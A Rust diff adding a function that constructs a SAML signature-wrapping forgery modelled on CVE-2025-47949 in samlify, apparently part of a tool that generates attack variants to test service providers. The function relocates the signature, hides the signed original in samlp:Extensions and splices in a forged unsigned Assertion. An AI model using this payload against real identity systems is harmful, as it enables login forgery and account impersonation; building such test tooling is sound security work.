@@ -267,3 +267,25 @@ pub fn attribute_pollution(f: &Forge) -> Result<Forged, Skip> {
         swap,
     )
 }
+
+/// CVE-2025-47949's shape (samlify < 2.10.0): the Assertion's Signature lifted to be a child of
+/// the Response, the signed original (without it) hidden in `samlp:Extensions`, where the
+/// schema allows it, and a forged, unsigned Assertion with a new ID where the SP reads. An SP
+/// that takes any Signature under the Response for the message's, without checking what its
+/// Reference points at, verifies the original and reads the forgery.
+pub fn lifted_signature(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let lifted = p.movable_signature(sig)?;
+    let hidden = format!(
+        "{lifted}<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
+        p.assertion_unsigned()
+    );
+    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
+    let edits = vec![
+        (p.assertion.range(), evil),
+        insert(p.after_response_header(), hidden),
+    ];
+    forged(p.splice_unsigned_response(edits), swap)
+}
